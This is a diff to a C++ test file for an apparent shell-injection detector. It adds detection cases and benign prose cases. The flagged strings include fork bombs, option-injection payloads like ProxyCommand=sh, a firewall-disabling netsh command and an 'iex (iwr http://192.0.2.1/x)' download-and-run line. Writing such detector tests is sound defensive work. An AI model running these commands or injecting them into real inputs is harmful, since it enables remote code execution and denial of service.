@@ -73,7 +73,7 @@ INSTANTIATE_TEST_SUITE_P(
 INSTANTIATE_TEST_SUITE_P(Statements, IsShell,
                          testing::Values("while true; do sleep 1; done",
                                          "if [ -f /x ]; then sleep 5; fi", "f(){ f|f& };f",
-                                         ":(){ :|:& };:"));
+                                         ":(){ :|:& };:", "alias ls='rm x'"));
 INSTANTIATE_TEST_SUITE_P(Options, IsShell,
                          testing::Values("-oProxyCommand=id", "-o ProxyCommand=sh",
                                          "--use-askpass=/x", "--checkpoint-action=exec=sh x",
@@ -91,7 +91,8 @@ INSTANTIATE_TEST_SUITE_P(
                     "cmd /c dir", "c:\\windows\\system32\\cmd.exe /c dir", "|Dir c:\\",
                     "& reg query HKLM\\Software", "netsh advfirewall set allprofiles state off",
                     "for /f \"tokens=*\" %i in ('dir') do echo %i", "for %%a in (a,b) do x",
-                    "if not exist c:\\x.txt dir", "IF %ERRORLEVEL% NEQ 0 x",
+                    "if not exist c:\\x.txt dir", "if red==red echo x",
+                    "if \"a b\" == \"a b\" (dir)", "IF %ERRORLEVEL% NEQ 0 x",
                     "; Get-Content c:\\x.ini", "powershell -enc SQBFAFgA",
                     "; iex (iwr http://192.0.2.1/x)", "| Get-ChildItem -Path c:\\"));
 
@@ -112,15 +113,15 @@ INSTANTIATE_TEST_SUITE_P(Lists, IsNoShell,
                                          "more; less", "id;name;date", "h|w|d", "true|false",
                                          "x=1; path=/; id=5", "10|id", "| name | id | date |",
                                          "size:10|color:red", "a.example/x;sort=date;id=7"));
-INSTANTIATE_TEST_SUITE_P(Prose, IsNoShell,
-                         testing::Values("Tom & Jerry", "find me; who is", "time; date; place",
-                                         "ping me; thanks", "Simon & Garfunkel; live",
-                                         "the `id` column", "use `git` or `svn`", "type a | type b",
-                                         "copy & paste", "net 30 days", "Rock & Roll; Jazz",
-                                         "my cat; her dog", "kill -9 explained",
-                                         "call home\nfind keys\nmore milk\nsleep",
-                                         "I'd like to sleep & eat at 5",
-                                         "let me know about the laundry../bin & supplies"));
+INSTANTIATE_TEST_SUITE_P(
+    Prose, IsNoShell,
+    testing::Values("Tom & Jerry", "find me; who is", "time; date; place", "ping me; thanks",
+                    "Simon & Garfunkel; live", "the `id` column", "use `git` or `svn`",
+                    "it works just like `chown -R` does", "type a | type b", "copy & paste",
+                    "net 30 days", "Rock & Roll; Jazz", "my cat; her dog", "kill -9 explained",
+                    "if not defined by law", "if it exists; copy it", "alias smith",
+                    "call home\nfind keys\nmore milk\nsleep", "I'd like to sleep & eat at 5",
+                    "let me know about the laundry../bin & supplies"));
 INSTANTIATE_TEST_SUITE_P(OtherLanguages, IsNoShell,
                          testing::Values("&amp;", "Fish &amp; Chips", "&copy; 2024", "$100",
                                          "{a,b}", "foo && bar", "var a = 1; var b = 2;",
